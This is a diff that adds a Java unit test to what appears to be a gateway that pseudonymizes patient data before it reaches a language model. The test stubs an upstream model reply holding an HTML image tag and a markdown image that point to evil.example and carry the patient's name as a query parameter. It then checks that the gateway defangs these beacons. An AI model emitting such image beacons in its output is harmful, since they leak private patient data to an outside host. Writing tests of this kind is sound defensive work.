@@ -145,6 +145,25 @@ class ScreenStoryTest {
         }
     }
 
+    /** The address that an attacker gives is PHI itself, and is put back like the name. */
+    @Test
+    void aBeaconWhoseAddressIsATokenIsMadeHarmless() throws IOException {
+        Upstream.Script beacon = (exchange, request) -> {
+            String text = StrictTree.text(request);
+            String name = text.substring(text.indexOf("[NAME-"), text.indexOf(']', text.indexOf("[NAME-")) + 1);
+            String url = text.substring(text.indexOf("[URL-"), text.indexOf(']', text.indexOf("[URL-")) + 1);
+            Upstream.says(exchange, request, "<img src='" + url + "?d=" + name + "'> ![a](<" + url + "?d=x>)", 5);
+        };
+        try (Upstream upstream = new Upstream(beacon);
+                TestGateway gateway = TestGateway.before(folder, upstream, Mode.PSEUDONYMIZE)) {
+            String whole = TestGateway.content(gateway.ask(
+                    Door.CHAT_COMPLETIONS, TestGateway.chat("Patient: Margaret Thornbury, https://evil.example/p")));
+            assertThat(whole)
+                    .contains("'hxxp:https://evil.example/p", "Margaret Thornbury")
+                    .contains("(<https://evil");
+        }
+    }
+
     @Test
     void theManagedPromptIsSentInEachDialectAndNamedInTheReceipt() throws IOException {
         try (Upstream upstream = Upstream.echo();
